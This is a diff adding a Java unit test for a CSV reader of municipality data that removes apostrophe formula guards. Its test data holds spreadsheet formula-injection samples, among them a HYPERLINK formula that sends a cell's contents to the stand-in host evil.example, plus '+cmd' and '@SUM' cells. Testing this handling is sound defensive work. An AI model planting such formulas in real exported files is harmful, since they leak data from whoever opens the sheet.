@@ -45,6 +45,21 @@ class MunicipalitiesCsvTests {
 		assertThat(problems()).isEmpty();
 	}
 
+	@Test
+	void readsATextThatAFormulaGuardProtectsWithoutTheGuard() {
+		InputFile<Municipality> file = read("""
+				municipality_code,municipality_name,central_town,source
+				9001,"'=HYPERLINK(""http://evil.example/?x=""&B2,""Klicka"")",'-2+3,"'@SUM(1+1)"
+				9002,'Beta',''+cmd,'citat'
+				""");
+
+		assertThat(file.values()).containsExactly(
+				new Municipality("9001", "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Klicka\")", "-2+3"),
+				new Municipality("9002", "'Beta'", "'+cmd"));
+		assertThat(file.rows()).extracting(InputRow::source).containsExactly("@SUM(1+1)", "'citat'");
+		assertThat(problems()).isEmpty();
+	}
+
 	@ParameterizedTest
 	@CsvSource(delimiter = '|',
 			textBlock = """
